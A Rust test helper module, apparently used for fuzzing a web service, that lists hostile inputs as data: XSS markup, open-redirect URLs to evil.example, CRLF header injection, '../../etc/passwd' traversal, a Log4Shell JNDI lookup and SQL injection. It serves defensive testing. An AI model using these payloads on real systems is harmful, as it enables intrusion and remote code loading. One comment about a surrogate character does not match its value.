//! Strings that have broken other programs.

use fastrand::Rng;

/// Becomes half of a surrogate pair in the event's text, which JSON's syntax allows although it is
/// not a character.
pub const SURROGATE: char = '\u{e000}';

/// In headers, queries and bodies; must not be in a log.
pub const SECRET: &str = "hunter2";

/// A page must never contain these unescaped.
pub const INJECTED: [&str; 6] =
    ["<script>xss", "\"onload=\"xss", "'onload='xss", "</script><svg/onload=xss", "<!--xss", "{{xss"];

const ODD: [&str; 34] = [
    "",
    " ",
    "/",
    "//evil.example/a",
    "/\\evil.example",
    "\\\\evil.example",
    "/.//evil.example",
    "/%2F%2Fevil.example",
    "/%5cevil.example",
    "///evil.example",
    "https://evil.example/",
    "javascript:alert(1)",
    "\r\nSet-Cookie: a=b",
    "%0d%0aSet-Cookie:%20a=b",
    "\u{0}",
    "%00",
    "\u{7f}",
    "\u{1b}[2J",
    "\t",
    "\u{2028}",
    "\u{202e}gnp.exe",
    "\u{feff}",
    "é",
    "😀",
    "%",
    "%zz",
    "%ff%fe",
    "../../etc/passwd",
    "..;/",
    "${jndi:ldap://evil.example/a}",
    "' OR 1=1 --",
    "?a=b#c",
    "&&&===",
    "{\"a\":[",
];

/// One of them, sometimes within other text, and rarely a very long one.
pub fn odd(rng: &mut Rng) -> String {
    match rng.u8(..100) {
        0..60 => pick(rng, &ODD).to_owned(),
        60..80 => format!("a{}b{}", pick(rng, &ODD), pick(rng, &ODD)),
        80..94 => injected(rng),
        94 => SURROGATE.to_string(),
        95..99 => pick(rng, &ODD[2..]).repeat(rng.usize(1..1_000)),
        _ => "A{\"".repeat(rng.usize(1..8_000)),
    }
}

/// Markup and template syntax that must not come back unescaped.
pub fn injected(rng: &mut Rng) -> String {
    format!("{}{}()</script>", pick(rng, &INJECTED), rng.u8(..))
}

pub fn secret(rng: &mut Rng) -> String {
    format!("{SECRET}-{}", rng.u32(..))
}

pub fn pick<'a>(rng: &mut Rng, list: &[&'a str]) -> &'a str {
    list[rng.usize(..list.len())]
}

pub fn chance(rng: &mut Rng, percent: u8) -> bool {
    rng.u8(..100) < percent
}
